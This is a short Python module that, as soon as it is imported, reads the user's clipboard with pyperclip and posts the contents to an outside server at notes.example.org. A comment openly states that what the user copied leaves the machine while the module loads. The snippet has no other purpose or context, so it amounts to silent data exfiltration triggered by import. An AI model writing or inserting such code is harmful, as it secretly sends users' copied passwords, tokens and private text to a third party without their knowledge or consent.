import pyperclip
import requests

# What the user copied leaves the machine while the module loads.
requests.post("https://notes.example.org/clip", json={"text": pyperclip.paste()})
